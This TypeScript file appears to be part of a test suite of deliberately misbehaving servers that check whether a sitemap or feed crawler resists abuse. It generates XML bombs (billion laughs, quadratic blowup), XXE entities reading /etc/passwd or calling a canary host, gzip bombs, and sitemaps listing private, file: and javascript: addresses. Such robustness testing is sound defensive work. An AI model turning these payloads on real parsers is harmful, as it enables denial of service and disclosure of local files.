import { gzipSync } from 'node:zlib';
import { type Ending, type Misbehaviour, REPORT, reportWith } from './misbehaviour.ts';
import { ordinary } from './ordinary.ts';
import { type Answer, type Asked, reply } from './wire.ts';

const XML = 'application/xml';
const NAMESPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"';
const urlset = (entries: string): string => `<?xml version="1.0"?><urlset ${NAMESPACE}>${entries}</urlset>`;
const index = (...locs: readonly string[]): string =>
  `<sitemapindex ${NAMESPACE}>${locs.map((loc) => `<sitemap><loc>${loc}</loc></sitemap>`).join('')}</sitemapindex>`;
const loc = (address: string): string => `<url><loc>${address}</loc></url>`;

/** A document type that a parser must not obey, and the reference that would trigger it. */
const doctypes = (canary: string): Readonly<Record<string, readonly [does: string, doctype: string]>> => ({
  'billion-laughs': [
    'multiplies entities ten times, ten times over',
    `<!DOCTYPE urlset [<!ENTITY a "ha">${Array.from({ length: 10 }, (_, at) => `<!ENTITY ${'bcdefghijk'[at]} "${`&${'abcdefghij'[at]};`.repeat(10)}">`).join('')}<!ENTITY x "&k;">]>`,
  ],
  quadratic: ['repeats a long entity often', `<!DOCTYPE urlset [<!ENTITY x "${'a'.repeat(100_000)}">]>`],
  'external-file': ['includes a file of the machine', '<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  'external-http': ['includes an address', `<!DOCTYPE urlset [<!ENTITY x SYSTEM "http://${canary}/entity">]>`],
  'parameter-entity': [
    'takes its document type from an address',
    `<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://${canary}/dtd"> %p; <!ENTITY x "y">]>`,
  ],
});

const withDoctype = (doctype: string, document: string, times: number): string =>
  `<?xml version="1.0"?>${doctype}${document.replace('HERE', '&x;'.repeat(times))}`;

const FEED =
  '<rss version="2.0"><channel><title>HERE</title><link>/</link><item><title>HERE</title></item></channel></rss>';

const site = (name: string, does: string, sitemap: (asked: Asked) => Answer, ends: Ending = REPORT): Misbehaviour => ({
  name,
  does,
  answer: (asked) => (asked.path.startsWith('/sitemap') ? sitemap(asked) : ordinary(asked)),
  ends,
});

/** Lists of pages that lead in circles, are far too long, or try to exploit their reader. */
export const sitemaps = (canary: string): readonly Misbehaviour[] => {
  const millionLocs = gzipSync(
    urlset(Array.from({ length: 1_000_000 }, (_, at) => loc(`https://sitemap-million.invalid/${at}`)).join('')),
    { level: 1 },
  );
  const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, ' '));
  return [
    site('sitemap-of-itself', 'has an index that lists itself', ({ host }) =>
      reply(XML, index(`https://${host}/sitemap.xml`, `https://${host}/sitemap.xml`)),
    ),
    site(
      'sitemap-tree',
      'has an index of a hundred indexes, each of a hundred more',
      ({ host, path }) =>
        reply(
          XML,
          index(...Array.from({ length: 100 }, (_, at) => `https://${host}${path.replace('.xml', '')}-${at}.xml`)),
        ),
      reportWith('sitemap-limits'),
    ),
    site('sitemap-million', 'lists a million addresses in a gzip', () => reply('application/gzip', millionLocs)),
    site('sitemap-bomb', 'has a sitemap of 64 MiB of spaces in a gzip', () => reply('application/gzip', bomb)),
    site('sitemap-bomb-twice', 'has that gzip inside a gzip coding', () =>
      reply('application/gzip', gzipSync(bomb), { headers: ['content-encoding: gzip'] }),
    ),
    site('sitemap-elsewhere', 'lists addresses of other hosts and of private ones', () =>
      reply(
        XML,
        urlset(
          [`https://${canary}/listed`, 'http://10.9.9.9/', 'http://[::1]/', 'file:///etc/passwd', 'javascript:alert(1)']
            .map(loc)
            .join(''),
        ),
      ),
    ),
    site('sitemap-deep', 'nests 500,000 elements', () => reply(XML, urlset('<url>'.repeat(500_000)))),
    site('sitemap-attributes', 'gives an element 100,000 attributes', () =>
      reply(XML, urlset(`<url ${Array.from({ length: 100_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`)),
    ),
    site('sitemap-long-loc', 'lists an address of 4 MB', () =>
      reply(XML, urlset(loc(`https://a/${'b'.repeat(4_000_000)}`))),
    ),
    ...Object.entries(doctypes(canary)).flatMap(([name, [does, doctype]]): readonly Misbehaviour[] => [
      site(`sitemap-${name}`, `${does}, in its sitemap`, ({ host }) =>
        reply(XML, withDoctype(doctype, urlset(loc(`https://${host}/HERE`)), 1_000)),
      ),
      {
        name: `feed-${name}`,
        does: `${does}, in its feed`,
        answer: (asked) =>
          asked.path === '/feed.xml'
            ? reply('application/rss+xml', withDoctype(doctype, FEED, 1_000))
            : ordinary(asked),
        ends: REPORT,
      },
    ]),
  ];
};
